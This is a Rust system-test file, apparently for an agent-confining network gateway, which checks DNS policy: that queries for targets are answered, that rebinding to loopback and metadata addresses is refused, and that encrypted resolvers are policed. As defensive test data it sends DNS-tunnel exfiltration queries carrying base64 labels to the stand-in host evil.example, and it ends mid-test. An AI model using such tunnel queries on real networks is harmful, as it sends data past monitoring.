//! The agents' resolver on the real kernel: unmodified clients ask whatever resolver they like, a real name server (BIND,
//! with its query log) stands where the host's recursive resolver would, and what it was asked is what left.

use std::collections::BTreeSet;
use std::fs;
use std::net::{IpAddr, UdpSocket};
use std::time::{Duration, Instant};

use system_tests::ca::Ca;
use system_tests::env::{AGENT, AGENT_USER, Env, Gateway, free_port};
use system_tests::issuer::Issuer;
use system_tests::named::{Encrypted, Named};
use system_tests::process::{Finished, PATIENCE, Running, wait_until};
use system_tests::recording;
use weir::policy::Gate;
use weir::record::denials::{Denial, Kind};
use weir::record::event::Event;

/// Asked by agents; nobody is there.
const RESOLVER: &str = "@192.0.2.53";
/// An agent besides [`AGENT`], and its user.
const CLERK: &str = "clerk";
const CLERK_USER: &str = "games";

/// What the target `rebound` is said to be at, and why that is refused.
const REBOUND: [(&str, &str); 8] = [
    ("loopback 300 A 127.0.0.1", "a loopback address"),
    ("gateway 300 A 127.64.0.1", "an address that no target can have"),
    ("metadata 300 A 169.254.169.254", "a link-local address or a cloud's metadata service"),
    ("private 300 A 10.11.12.13", "a private address"),
    ("nobody 300 A 0.0.0.0", "an address that no target can have"),
    ("mapped 300 AAAA ::ffff:127.0.0.1", "a loopback address"),
    ("translated 300 AAAA 64:ff9b::a9fe:a9fe", "a link-local address or a cloud's metadata service"),
    ("other 300 A 203.0.113.9", "an address of target \"network\""),
];

/// A gateway between two agents and a name server. Dropped in this order.
struct World {
    gateway: Gateway,
    named: Named,
    _server: Running,
    _issuer: Issuer,
    port: u16,
    env: Env,
}

impl World {
    fn new() -> Self {
        Self::with("")
    }

    /// With more keys of `[gateway]`.
    fn with(gateway_keys: &str) -> Self {
        let (env, issuer, port) = (Env::new().unwrap(), Issuer::start().unwrap(), free_port().unwrap());
        let named = Named::start(&env, &zone(port)).unwrap();
        let server = https_server(&env, port);
        env.configure(&format!(
            "{gateway_keys}\n[identity]\nissuer = \"{}\"\naudience = \"weir\"\ninsecure = \"a test's\"\n\n\
             [dns]\nservers = [\"127.0.0.1:{}\"]\n\n{}\n{}\n{}",
            issuer.url(),
            named.port(),
            env.agent_config(),
            clerk_config(&env),
            targets(port),
        ))
        .unwrap();
        env.set_token(&issuer.token(&serde_json::json!({})).unwrap()).unwrap();
        let gateway = env.serve().unwrap();
        Self { gateway, named, _server: server, _issuer: issuer, port, env }
    }

    /// What dig says, as the agent.
    fn dig(&self, words: &[&str]) -> String {
        self.env.agent("dig").args(["+tries=1", "+timeout=10", RESOLVER]).args(words).run().unwrap().stdout
    }

    /// The response code and the answers' lines, without the comments.
    fn ask(&self, words: &[&str]) -> (String, Vec<String>) {
        let output = self.dig(&[&["+noall", "+answer", "+comments"], words].concat());
        let code =
            output.split("status: ").nth(1).and_then(|rest| rest.split(',').next()).unwrap_or(&output).to_owned();
        let is_answer = |line: &&str| !line.is_empty() && !line.starts_with(';');
        let fields = |line: &str| line.split_whitespace().collect::<Vec<_>>().join(" ");
        (code, output.lines().filter(is_answer).map(fields).collect())
    }

    /// The same as the clerk.
    fn clerk(&self, words: &[&str]) -> String {
        let dig = self.env.agent_in(CLERK, CLERK_USER, "dig").unwrap();
        let output = dig.args(["+tries=1", "+timeout=10", RESOLVER]).args(words).run().unwrap().stdout;
        output.split("status: ").nth(1).and_then(|rest| rest.split(',').next()).unwrap_or(&output).to_owned()
    }

    /// Runs an agent's program with this resolv.conf.
    fn agent_with_resolv_conf(&self, text: &str, program: &[&str]) -> Finished {
        const SCRIPT: &str = "mount --bind \"$1\" /etc/resolv.conf && echo 0 > \"$2/cgroup.procs\" && user=$3 && shift 3 && \
            exec setpriv --reuid $user --regid $user --init-groups --no-new-privs --inh-caps=-all --bounding-set=-all -- \"$@\"";
        let file = self.env.dir().join("resolv.conf");
        fs::write(&file, text).unwrap();
        let place = self.env.bystander("unshare").args(["--mount", "sh", "-c", SCRIPT, "sh"]).arg(file);
        place.arg(self.env.cgroup().join("agents").join(AGENT)).arg(AGENT_USER).args(program).run().unwrap()
    }

    /// What was recorded of refused queries by now: name, type, reason, and whether it was only observed.
    fn refused(&self) -> Vec<(String, String, String, bool)> {
        let events = recording::events(&self.env.state_dir().join("recordings")).unwrap();
        let refused = events.into_iter().filter_map(|event| match event {
            Event::DnsRefused { name, kind, reason, observed, .. } => Some((name, kind, reason, observed)),
            _ => None,
        });
        refused.collect()
    }

    /// Waits until this is recorded.
    fn wait_for_refusal(&self, name: &str, kind: &str, reason: &str) {
        let is_it = |it: &(String, String, String, bool)| it.0 == name && it.1 == kind && it.2.contains(reason);
        let recorded = wait_until("a record", PATIENCE, || self.refused().iter().any(is_it));
        recorded.unwrap_or_else(|_| panic!("{name} {kind} {reason}: not in {:?}", self.refused()));
    }
}

/// What the name server knows, besides a wildcard for all that it should not be asked.
fn zone(port: u16) -> String {
    let rebound = REBOUND.map(|(record, _)| format!("{}.target.test. {}\n", owner(record), data(record))).concat();
    let addresses = |name: &str, count: u8| {
        (1..=count).fold(String::new(), |zone, n| format!("{zone}{name}.target.test. 300 A 198.51.100.{n}\n"))
    };
    format!(
        "www.target.test. 250 A 192.0.2.10\nwww.target.test. 250 AAAA 2001:db8::10\n\
         chain.target.test. 20 CNAME edge.cdn.test.\nedge.cdn.test. 200 CNAME edge2.cdn.test.\nedge2.cdn.test. 90 A 127.0.0.1\n\
         short.target.test. 2 A 192.0.2.11\nempty.target.test. 300 TXT text\nwages.target.test. 300 A 192.0.2.12\n\
         mixed.target.test. 300 A 192.0.2.13\nmixed.target.test. 300 A 127.0.0.1\n\
         own.target.test. 300 A {}\n\
         _https._tcp.srv.target.test. 100 SRV 1 2 {port} www.target.test.\n\
         _https._tcp.srv.target.test. 100 SRV 1 2 22 www.target.test.\n\
         _https._tcp.srv.target.test. 100 SRV 1 2 {port} evil.example.\n{rebound}{}{}",
        own_address(),
        addresses("many", 32),
        addresses("huge", 100),
    )
}

fn owner(record: &str) -> &str {
    record.split(' ').next().unwrap()
}

fn data(record: &str) -> &str {
    record.split_once(' ').unwrap().1
}

/// An address of this host that is no loopback address.
fn own_address() -> IpAddr {
    let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
    socket.connect("192.0.2.1:9").expect("this host has a route and so an address of its own");
    socket.local_addr().unwrap().ip()
}

fn targets(port: u16) -> String {
    let target = |name: &str, addresses: &[&str], more: &str| {
        let addresses = addresses.iter().map(|host| format!("\"{host}:{port}\"")).collect::<Vec<_>>().join(", ");
        format!("[[target]]\nname = \"{name}\"\nprotocol = \"tls-passthrough\"\naddress = [{addresses}]\n{more}\n")
    };
    let rebound: Vec<String> = REBOUND.iter().map(|(record, _)| format!("{}.target.test", owner(record))).collect();
    let rebound: Vec<&str> =
        rebound.iter().map(String::as_str).chain(["mixed.target.test", "own.target.test"]).collect();
    let plain = ["www", "short", "empty", "gone", "srv", "many", "huge"].map(|name| format!("{name}.target.test"));
    [
        target("plain", &plain.each_ref().map(String::as_str), ""),
        target("chain", &["chain.target.test"], "resolve_within = [\"127.0.0.0/8\"]\n"),
        target("rebound", &rebound, ""),
        target("network", &["203.0.113.0/24"], ""),
        target("wages", &["wages.target.test"], ""),
        "[[rule]]\nname = \"coder\"\nagents = [\"coder\"]\ntargets = [\"plain\", \"chain\", \"rebound\", \"network\"]\n\
         kinds = [\"connect\"]\nthen = \"allow\"\n\n\
         [[rule]]\nname = \"clerk\"\nagents = [\"clerk\"]\ntargets = [\"wages\"]\nkinds = [\"connect\"]\nthen = \"allow\"\n"
            .to_owned(),
    ]
    .concat()
}

fn clerk_config(env: &Env) -> String {
    format!(
        "[[agent]]\nname = \"{CLERK}\"\ncgroup = \"{}/agents/{CLERK}\"\ntoken = {{ file = \"{}\" }}\n",
        env.attach(),
        env.dir().join("tokens/clerk.token").display(),
    )
}

fn https_server(env: &Env, port: u16) -> Running {
    let ca = Ca::new().unwrap();
    let leaf = ca.issue(&["chain.target.test"]).unwrap();
    let file = |name: &str| env.dir().join(name).display().to_string();
    for (name, content) in [("ca.pem", ca.pem()), ("server.pem", &leaf.certificate), ("server.key", &leaf.key)] {
        fs::write(file(name), content).unwrap();
    }
    let server = env
        .bystander("openssl")
        .args(["s_server", "-www", "-accept", &format!("127.0.0.1:{port}")])
        .args(["-cert", &file("server.pem"), "-key", &file("server.key")])
        .start()
        .unwrap();
    server.wait_for("ACCEPT", PATIENCE).unwrap();
    server
}

#[test]
fn names_of_targets_are_answered_as_their_servers_do() {
    let world = World::new();
    for transport in ["+notcp", "+tcp"] {
        let ask = |name: &str, kind: &str| world.ask(&[transport, name, kind]);
        let (code, answer) = ask("WWW.target.test", "A");
        let ttl: u32 = answer[0].split(' ').nth(1).unwrap().parse().unwrap();
        assert_eq!(
            (code.as_str(), answer[0].replace(&format!(" {ttl} "), " ")),
            ("NOERROR", "WWW.target.test. IN A 192.0.2.10".to_owned())
        );
        assert!((200..=250).contains(&ttl), "{ttl}");
        assert!(ask("www.target.test", "AAAA").1[0].ends_with("AAAA 2001:db8::10"));
        assert_eq!(ask("empty.target.test", "A"), ("NOERROR".to_owned(), vec![]));
        assert_eq!(ask("gone.target.test", "A"), ("NXDOMAIN".to_owned(), vec![]));
        // What browsers and curl ask besides: there is none, whatever the name's servers say.
        assert_eq!(ask("www.target.test", "HTTPS"), ("NOERROR".to_owned(), vec![]));
        // Of three services one leads to a name and a port of a target.
        let (code, answer) = ask("_https._tcp.srv.target.test", "SRV");
        assert_eq!((code.as_str(), answer.len()), ("NOERROR", 1), "{answer:?}");
        assert!(answer[0].ends_with(&format!("SRV 1 2 {} www.target.test.", world.port)), "{answer:?}");
    }
    world.wait_for_refusal("_https._tcp.srv.target.test", "SRV", "where this agent has no target");
}

#[test]
fn the_end_of_a_chain_belongs_to_the_name_that_was_asked() {
    let world = World::new();
    let (code, answer) = world.ask(&["chain.target.test", "A"]);
    assert_eq!((code.as_str(), answer.len()), ("NOERROR", 1), "{answer:?}");
    assert!(answer[0].starts_with("chain.target.test. ") && answer[0].ends_with(" IN A 127.0.0.1"), "{answer:?}");
    let ttl: u32 = answer[0].split(' ').nth(1).unwrap().parse().unwrap();
    assert!(ttl <= 20, "the shortest of the chain: {ttl}");
    // By that answer, an unmodified client reaches the target.
    let ca = world.env.dir().join("ca.pem");
    let url = format!("https://chain.target.test:{}/", world.port);
    let page = world.env.agent("curl").args(["-sS", "--max-time", "20", "--cacert"]).arg(ca).arg(url).run().unwrap();
    assert!(page.stdout.contains("s_server"), "{page:?}");
    // The names on the way are not its to ask.
    assert_eq!(world.ask(&["edge.cdn.test", "A"]).0, "REFUSED");
    assert_eq!(world.ask(&["chain.target.test", "CNAME"]).0, "REFUSED");
}

/// The tunnel test: what an agent may not ask never arrives at a server outside.
#[test]
fn nothing_leaves_by_way_of_names() {
    const RESOLVE: &str = r"
import pycares, select, socket, sys, time
for name in sys.argv[1:]:
    try:
        print(socket.getaddrinfo(name, 443))
    except OSError as error:
        print(error)
    channel = pycares.Channel(timeout=2, tries=1)
    channel.query(name, pycares.QUERY_TYPE_TXT, lambda result, error: print(result, error))
    channel.gethostbyname(name, socket.AF_INET, lambda result, error: print(result, error))
    end = time.time() + 10
    while time.time() < end:
        readable, writable = channel.getsock()
        if not readable and not writable:
            break
        ready = select.select(readable, writable, [], 0.1)
        for fd in ready[0]:
            channel.process_fd(fd, pycares.ARES_SOCKET_BAD)
        if not ready[0]:
            channel.process_fd(pycares.ARES_SOCKET_BAD, pycares.ARES_SOCKET_BAD)
";
    let world = World::new();
    let long = format!("{0}.{0}.{0}.evil.example", "c2VjcmV0".repeat(7));
    let attempts = [
        ("c2VjcmV0.evil.example", "A"),
        ("c2VjcmV0.evil.example", "TXT"),
        (long.as_str(), "A"),
        (long.as_str(), "NULL"),
        ("c2VjcmV0.www.target.test", "A"),
        ("www.target.test.evil.example", "A"),
        ("target.test", "A"),
        ("test", "NS"),
        (".", "NS"),
        ("www.target.test", "TXT"),
        ("www.target.test", "ANY"),
        ("www.target.test", "NULL"),
        ("www.target.test", "MX"),
        ("www.target.test", "TYPE65280"),
        ("_c2VjcmV0._tcp.srv.target.test", "SRV"),
        ("_https._udp.srv.target.test", "SRV"),
        ("_https._tcp.c2VjcmV0.test", "SRV"),
        ("10.2.0.192.in-addr.arpa", "PTR"),
        ("wages.target.test", "TXT"),
        ("edge.cdn.test", "A"),
        ("localhost", "A"),
        ("192.0.2.66", "A"),
    ];
    for (name, kind) in attempts {
        for transport in ["+notcp", "+tcp"] {
            let (code, answer) = world.ask(&[transport, name, kind]);
            // A name that begins like a target's may have been made by a search list.
            let expected = if name.starts_with("www.target.test.") { "NXDOMAIN" } else { "REFUSED" };
            assert_eq!((code.as_str(), answer), (expected, vec![]), "{transport} {name} {kind}");
        }
    }
    // Another class, another operation, and bytes that are no query.
    assert_eq!(world.ask(&["www.target.test", "TXT", "CH"]).0, "REFUSED");
    assert_eq!(world.ask(&["+opcode=UPDATE", "www.target.test", "A"]).0, "NOTIMP");
    for client in
        [&["getent", "ahosts"][..], &["/usr/bin/python3", "-c", RESOLVE], &["curl", "-sS", "--max-time", "20"]]
    {
        for name in ["c2VjcmV0.evil.example", "c2VjcmV0.www.target.test", "edge.cdn.test"] {
            let said = world.env.agent(client[0]).args(&client[1..]).arg(name).run().unwrap();
            assert!(!said.stdout.contains("192.0.2."), "{client:?} {name}: {said:?}");
            assert!(client[0].contains("python") || !said.success(), "{client:?} {name}: {said:?}");
        }
    }
    // The log shows what does arrive, and nothing else has.
    assert_eq!(world.ask(&["www.target.test", "A"]).0, "NOERROR");
    world.named.wait_for("www.target.test A").unwrap();
    assert_eq!(world.named.asked(), ["www.target.test A"]);
    // What was refused is recorded, some of it by number only.
    world.wait_for_refusal("c2VjcmV0.evil.example".to_lowercase().as_str(), "A", "no target has this name");
}

/// An address leads back to a name for who was told, and for nobody else whom policy lets go there. (How long it does is a
/// unit test of `dns::memory`: ten minutes more than its TTL.)
#[test]
fn what_one_agent_was_told_leads_no_other_anywhere() {
    let world = World::new();
    let config = fs::read_to_string(world.env.config_path()).unwrap();
    let both = config.replace("targets = [\"wages\"]", "targets = [\"wages\", \"chain\"]");
    assert_ne!(both, config);
    fs::write(world.env.config_path(), both).unwrap();
    world.gateway.reload().unwrap();
    // To the address at once, without asking anybody.
    let port = world.port;
    let words = ["-sSk", "--max-time", "20", "--resolve", &format!("chain.target.test:{port}:127.0.0.1")];
    let url = format!("https://chain.target.test:{port}/");
    let coder = || world.env.agent("curl").args(words).arg(&url).run().unwrap();
    let clerk = || world.env.agent_in(CLERK, CLERK_USER, "curl").unwrap().args(words).arg(&url).run().unwrap();
    let last_reason = |agent: &str| {
        let list = world.env.weir(["denials", "--agent", agent, "--json"]).unwrap().expect_success().unwrap();
        let denials: Vec<Denial> = serde_json::from_str(&list).unwrap();
        denials.into_iter().find(|denial| denial.kind == Kind::Connection).unwrap().reason
    };
    let no_target = format!("no target is configured at 127.0.0.1:{port}");
    assert!(!coder().success());
    assert!(last_reason(AGENT).contains(&no_target), "{}", last_reason(AGENT));
    assert_eq!(world.ask(&["chain.target.test", "A"]).0, "NOERROR");
    assert!(coder().stdout.contains("s_server"));
    assert!(!clerk().success());
    assert!(last_reason(CLERK).contains(&no_target), "{}", last_reason(CLERK));
    // Who has asked gets as far as its token, which is missing.
    assert_eq!(world.clerk(&["chain.target.test"]), "NOERROR");
    assert!(!clerk().success());
    assert!(last_reason(CLERK).contains("token"), "{}", last_reason(CLERK));
}

/// A resolver of somebody else's that answers by TLS and HTTPS.
struct Foreign {
    named: Named,
    over_https: u16,
}

impl Foreign {
    /// The port that IANA registered for it.
    const OVER_TLS: u16 = 853;
    /// A name by which `weir doctor` knows one.
    const KNOWN: &str = "dns.google";
    /// What a library does that asks by TLS and says whom it asks (SNI), which dig does not: one question, and the code of the answer.
    const OVER_TLS_BY_NAME: &str = r#"
import socket, ssl, struct, sys
address, server_name, name = sys.argv[1], sys.argv[2], sys.argv[3].split(".")
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
context.set_alpn_protocols(["dot"])
question = b"".join(bytes([len(label)]) + label.encode() for label in name) + b"\0\0\1\0\1"
query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + question
with socket.create_connection((address, 853), timeout=10) as tcp:
    with context.wrap_socket(tcp, server_hostname=server_name) as tls:
        tls.sendall(struct.pack("!H", len(query)) + query)
        print("code", tls.recv(512)[5] & 15)
"#;

    fn start(env: &Env) -> Self {
        let leaf = Ca::new().unwrap().issue(&[Self::KNOWN, "dot.target.test"]).unwrap();
        let (certificate, key) = (env.dir().join("foreign.pem"), env.dir().join("foreign.key"));
        fs::write(&certificate, &leaf.certificate).unwrap();
        fs::write(&key, &leaf.key).unwrap();
        let over_https = free_port().unwrap();
        let at = Encrypted { over_tls: Self::OVER_TLS, over_https, certificate: &certificate, key: &key };
        Self { named: Named::start_encrypted(env, &at).unwrap(), over_https }
    }

    /// Clients that ask for `name` there by its address.
    fn by_address(&self, name: &str) -> [Vec<String>; 3] {
        let (tls, https) = (Self::OVER_TLS, self.over_https);
        [
            format!("dig +tls +tries=1 +timeout=10 +short -p {tls} @127.0.0.1 {name}"),
            format!("dig +https +tries=1 +timeout=10 +short -p {https} @127.0.0.1 {name}"),
            self.over_https_of("127.0.0.1", name),
        ]
        .map(|words| words.split(' ').map(str::to_owned).collect())
    }

    /// curl looks up by HTTPS whom it is to connect to; where that is it must not find out. The port is nobody's.
    fn over_https_of(&self, host: &str, name: &str) -> String {
        let port = self.over_https;
        format!("curl -sS --max-time 6 --doh-insecure --doh-url https://{host}:{port}/dns-query https://{name}:9/")
    }
}

/// DNS over TLS and HTTPS with clients and a server of others: what an agent may open there policy says, as of any other server, and
/// what it asks then nobody sees. `weir doctor` does not let that stand.
#[test]
fn resolvers_behind_tls_are_judged_as_any_server_and_found() {
    let world = World::new();
    let (env, foreign) = (&world.env, Foreign::start(&world.env));
    let asked = |name: &str| foreign.named.asked().iter().any(|query| query.starts_with(&format!("{name} A")));
    let resolver_findings = || {
        let doctor = env.weir(["doctor", "--quick", "--json"]).unwrap();
        let findings: serde_json::Value = serde_json::from_str(&doctor.stdout).unwrap();
        let is_ours = |finding: &&serde_json::Value| {
            finding["subject"] == "resolvers" && finding["message"].as_str().unwrap().starts_with("target ")
        };
        findings.as_array().unwrap().iter().filter(is_ours).cloned().collect::<Vec<_>>()
    };
    // They work for who is no agent.
    for client in 0..3 {
        let name = format!("free{client}.evil.example");
        let words = &foreign.by_address(&name)[client];
        env.bystander_as(CLERK_USER, &words[0]).args(&words[1..]).run().unwrap();
        assert!(asked(&name), "{words:?}: {:?}", foreign.named.asked());
    }
    // No target: intercepted, refused, recorded.
    let before = foreign.named.asked().len();
    for words in foreign.by_address("secret.evil.example") {
        let said = env.agent(&words[0]).args(&words[1..]).run().unwrap();
        // dig ends with 0 whatever became of TLS.
        assert!(words[0] == "dig" || !said.success(), "{words:?}: {said:?}");
        assert!(!said.stdout.contains("192.0.2.66"), "{words:?}: {said:?}");
    }
    let denials = env.weir(["denials", "--json"]).unwrap().expect_success().unwrap();
    let denials: Vec<Denial> = serde_json::from_str(&denials).unwrap();
    for (port, times) in [(Foreign::OVER_TLS, 1), (foreign.over_https, 2)] {
        let reason = format!("no target is configured at 127.0.0.1:{port}");
        let refused =
            denials.iter().filter(|denial| denial.kind == Kind::Connection && denial.reason.contains(&reason));
        assert!(refused.count() >= times, "{reason}: {denials:?}");
    }
    assert_eq!(foreign.named.asked().len(), before, "{:?}", foreign.named.asked());

    // Targets, and no rule that lets anybody go there: the same.
    let config = fs::read_to_string(env.config_path()).unwrap();
    let targets = format!(
        "[[target]]\nname = \"dot\"\nprotocol = \"tls-passthrough\"\naddress = [\"dot.target.test:853\"]\nresolve = [\"127.0.0.1\"]\n\n\
         [[target]]\nname = \"doh\"\nprotocol = \"tls-passthrough\"\naddress = [\"{}:{}\"]\nresolve = [\"127.0.0.1\"]\n",
        Foreign::KNOWN,
        foreign.over_https
    );
    fs::write(env.config_path(), format!("{config}\n{targets}")).unwrap();
    world.gateway.reload().unwrap();
    let by_tls = |server_name: &str, name: &str| {
        let python = env.agent("python3").args(["-c", Foreign::OVER_TLS_BY_NAME]);
        python.args(["dot.target.test", server_name, name]).run().unwrap()
    };
    let by_https = |name: &str| {
        let words = foreign.over_https_of(Foreign::KNOWN, name);
        let words: Vec<&str> = words.split(' ').collect();
        env.agent(words[0]).args(&words[1..]).run().unwrap()
    };
    assert!(!by_tls("dot.target.test", "secret.evil.example").success());
    assert!(!by_https("secret.evil.example").success());
    assert_eq!(foreign.named.asked().len(), before, "{:?}", foreign.named.asked());
    assert_eq!(resolver_findings(), Vec::<serde_json::Value>::new());

    // A rule: then names leave, whatever they are, and that is no secret.
    let rule = "[[rule]]\nname = \"resolvers\"\nagents = [\"coder\"]\ntargets = [\"dot\", \"doh\"]\nkinds = [\"connect\"]\nthen = \"allow\"\n";
    fs::write(env.config_path(), format!("{config}\n{targets}\n{rule}")).unwrap();
    world.gateway.reload().unwrap();
    let told = by_tls("dot.target.test", "dot.evil.example").expect_success().unwrap();
    assert_eq!((told.as_str(), asked("dot.evil.example")), ("code 0\n", true), "{:?}", foreign.named.asked());
    by_https("doh.evil.example");
    assert!(asked("doh.evil.example"), "{:?}", foreign.named.asked());
    // Under another name, or none (dig gives none), nobody gets there.
    assert!(!by_tls("www.target.test", "other.evil.example").success());
    let dig = &foreign.by_address("nameless.evil.example")[0];
    assert!(!env.agent(&dig[0]).args(&dig[1..]).run().unwrap().stdout.contains("192.0.2.66"));
    assert!(!asked("other.evil.example") && !asked("nameless.evil.example"), "{:?}", foreign.named.asked());
    let found = resolver_findings();
    for why in ["dot.target.test:853, the port of DNS over TLS", "dns.google:", "coder may have any name looked up"] {
        let named = |finding: &serde_json::Value| {
            finding["level"] == "fail" && finding["message"].as_str().unwrap().contains(why)
        };
        assert!(found.len() == 2 && found.iter().any(named), "{why}: {found:?}");
    }
}

#[test]
fn each_agent_asks_for_its_own_targets() {
    let world = World::new();
    assert_eq!(world.clerk(&["wages.target.test"]), "NOERROR");
    // Others' targets are at nobody's address, so that the refusal comes from the gateway, and with a reason.
    let (code, answer) = world.ask(&["wages.target.test", "A"]);
    assert_eq!((code.as_str(), answer.len()), ("NOERROR", 1), "{answer:?}");
    assert!(answer[0].ends_with(" IN A 192.0.0.8"), "{answer:?}");
    assert_eq!(world.ask(&["wages.target.test", "AAAA"]).1, Vec::<String>::new());
    world.wait_for_refusal("wages.target.test", "A", "no rule lets agent \"coder\" connect to a target of this name");
    let url = format!("https://wages.target.test:{}/", world.port);
    let refused = world.env.agent("curl").args(["-sSk", "--max-time", "20", &url]).run().unwrap();
    assert!(!refused.success() && refused.stdout.is_empty(), "{refused:?}");
    let by_policy = || {
        let events = recording::events(&world.env.state_dir().join("recordings")).unwrap();
        events.iter().any(|event| {
            let Event::OperationDecided(decided) = event else { return false };
            matches!(&decided.gate, Gate::Deny { message, .. } if message.contains("on target \"wages\""))
        })
    };
    wait_until("the refused connection's record", PATIENCE, by_policy).unwrap();
    // In the agents' cgroups, but no agent.
    let stranger = world.env.agent_in("stranger", CLERK_USER, "dig").unwrap();
    let said = stranger.args(["+tries=1", "+short", RESOLVER, "www.target.test"]).run().unwrap();
    assert_eq!(said.stdout, "192.0.0.8\n", "{said:?}");
    world.wait_for_refusal("www.target.test", "A", "no agent is configured");
    // The one query that was the clerk's to ask is all that left.
    assert_eq!(world.named.asked(), ["wages.target.test A"]);
}

#[test]
fn a_name_that_resolves_to_what_it_must_not_is_refused() {
    let world = World::new();
    for (record, reason) in REBOUND {
        let kind = record.split(' ').nth(2).unwrap();
        let name = format!("{}.target.test", owner(record));
        assert_eq!(world.ask(&[&name, kind]), ("REFUSED".to_owned(), vec![]), "{name}");
        world.wait_for_refusal(&name, kind, reason);
    }
    assert_eq!(world.ask(&["own.target.test", "A"]).0, "REFUSED");
    world.wait_for_refusal("own.target.test", "A", "an address of this host");
    // Of two addresses the one that may be told is.
    let (code, answer) = world.ask(&["mixed.target.test", "A"]);
    assert_eq!((code.as_str(), answer.len()), ("NOERROR", 1), "{answer:?}");
    assert!(answer[0].ends_with("192.0.2.13"));
    world.wait_for_refusal("mixed.target.test", "A", "a loopback address");
    // Who looks before an agent asks is told, and what to do.
    let doctor = world.env.weir(["doctor", "--json"]).unwrap();
    let findings: serde_json::Value = serde_json::from_str(&doctor.stdout).unwrap();
    let named = |finding: &&serde_json::Value| {
        finding["message"]
            .as_str()
            .unwrap()
            .starts_with("loopback.target.test resolves to 127.0.0.1, which agents are not told")
    };
    let finding = findings.as_array().unwrap().iter().find(named).unwrap_or_else(|| panic!("{doctor:?}"));
    assert_eq!((&finding["level"], &finding["subject"]), (&"fail".into(), &"rebound".into()), "{finding}");
    assert!(finding["advice"].as_str().unwrap().contains("resolve_within"), "{finding}");
    // What was not told leads nowhere.
    let port = world.port;
    for name in ["mixed.target.test", "loopback.target.test"] {
        let resolve = format!("{name}:{port}:127.0.0.1");
        let words = ["-sSk", "--max-time", "20", "--resolve", &resolve];
        let direct = world.env.agent("curl").args(words).arg(format!("https://{name}:{port}/")).run().unwrap();
        assert!(!direct.success(), "{direct:?}");
    }
}

#[test]
fn answers_are_kept_as_long_as_their_ttl_says() {
    let world = World::new();
    let ask = |name: &str| world.ask(&[name, "A"]).0;
    for _ in 0..5 {
        assert_eq!(ask("www.target.test"), "NOERROR");
        assert_eq!(ask("gone.target.test"), "NXDOMAIN");
        assert_eq!(ask("empty.target.test"), "NOERROR");
    }
    for name in ["www", "gone", "empty"] {
        assert_eq!(world.named.count(&format!("{name}.target.test A")), 1, "{name}");
    }
    assert_eq!(ask("short.target.test"), "NOERROR");
    std::thread::sleep(Duration::from_secs(3));
    assert_eq!(ask("short.target.test"), "NOERROR");
    assert_eq!(world.named.count("short.target.test A"), 2);
    // The zone says 5 s for what is not there.
    std::thread::sleep(Duration::from_secs(3));
    assert_eq!(ask("gone.target.test"), "NXDOMAIN");
    assert_eq!(world.named.count("gone.target.test A"), 2);
}

#[test]
fn answers_that_do_not_fit_are_cut_and_asked_for_again() {
    let world = World::new();
    let cut = world.dig(&["+noedns", "+ignore", "many.target.test", "A"]);
    assert!(cut.contains("flags: qr tc rd ra"), "{cut}");
    let count = |words: &[&str]| world.ask(words).1.len();
    let fitting = count(&["+noedns", "+ignore", "many.target.test", "A"]);
    assert!((20..32).contains(&fitting), "{fitting}");
    // dig goes on by TCP by itself; with EDNS there is no need to.
    assert_eq!(count(&["+noedns", "many.target.test", "A"]), 32);
    assert_eq!(count(&["+ignore", "+bufsize=1232", "many.target.test", "A"]), 32);
    let all = world.env.agent("getent").args(["ahostsv4", "many.target.test"]).run().unwrap().expect_success().unwrap();
    assert_eq!(all.lines().filter(|line| line.contains("STREAM")).count(), 32, "{all}");
    // What is too large by UDP comes by TCP from outside, too.
    assert_eq!(count(&["huge.target.test", "A"]), 32);
    assert!(world.named.count("huge.target.test A tcp") >= 1, "{:?}", world.named.asked());
}

#[test]
fn dnssec_bits_are_given_back_and_nothing_is_claimed() {
    let world = World::new();
    let plain = world.dig(&["+noadflag", "www.target.test"]);
    assert!(plain.contains("flags: qr rd ra;") && plain.contains("EDNS: version: 0, flags:; udp: 1232"), "{plain}");
    let signed = world.dig(&["+dnssec", "+adflag", "+cdflag", "www.target.test"]);
    assert!(signed.contains("flags: qr rd ra cd;") && signed.contains("EDNS: version: 0, flags: do;"), "{signed}");
    let newer = world.dig(&["+edns=1", "+noednsnegotiation", "www.target.test"]);
    assert!(newer.contains("status: BADVERS"), "{newer}");
}

#[test]
fn search_lists_lead_to_the_names_of_targets() {
    const MUSL: &str = r#"
#include <netdb.h>
#include <stdio.h>
#include <arpa/inet.h>
int main(int argc, char **argv) {
    struct addrinfo hints = { .ai_socktype = SOCK_STREAM }, *found;
    int error = getaddrinfo(argv[1], "443", &hints, &found);
    if (error) { puts(gai_strerror(error)); return 1; }
    char text[64];
    if (found->ai_family == AF_INET)
        puts(inet_ntop(AF_INET, &((struct sockaddr_in *)found->ai_addr)->sin_addr, text, sizeof text));
    return 0;
}
"#;
    const C_ARES: &str = r"
import pycares, select, socket, sys, time
channel = pycares.Channel(timeout=5, tries=1)
channel.gethostbyname(sys.argv[1], socket.AF_INET, lambda result, error: print(result.addresses if result else error))
end = time.time() + 15
while time.time() < end:
    readable, writable = channel.getsock()
    if not readable and not writable:
        break
    for fd in select.select(readable, writable, [], 0.1)[0]:
        channel.process_fd(fd, pycares.ARES_SOCKET_BAD)
";
    let world = World::new();
    let file = |name: &str| world.env.dir().join(name).display().to_string();
    fs::write(file("musl.c"), MUSL).unwrap();
    let compiled =
        world.env.bystander("musl-gcc").args(["-static", "-o", &file("musl"), &file("musl.c")]).run().unwrap();
    compiled.expect_success().unwrap();
    // As in a Kubernetes pod: every name is tried with each domain first.
    let resolv_conf = "nameserver 192.0.2.53\nsearch a.example target.test b.example\noptions ndots:5\n";
    for client in [&["getent", "ahostsv4"][..], &[&file("musl")], &["/usr/bin/python3", "-c", C_ARES]] {
        for name in ["chain", "chain.target.test", "chain.target.test."] {
            let said = world.agent_with_resolv_conf(resolv_conf, &[client, &[name]].concat());
            assert!(said.stdout.contains("127.0.0.1"), "{client:?} {name}: {said:?}");
        }
        let said = world.agent_with_resolv_conf(resolv_conf, &[client, &["c2VjcmV0"]].concat());
        assert!(!said.stdout.contains("192.0.2."), "{client:?}: {said:?}");
    }
    let asked: BTreeSet<String> = world.named.asked().into_iter().collect();
    assert_eq!(asked, BTreeSet::from(["chain.target.test A".to_owned()]));
}

#[test]
fn one_socket_asks_two_resolvers() {
    const TWO: &str = r#"
import socket
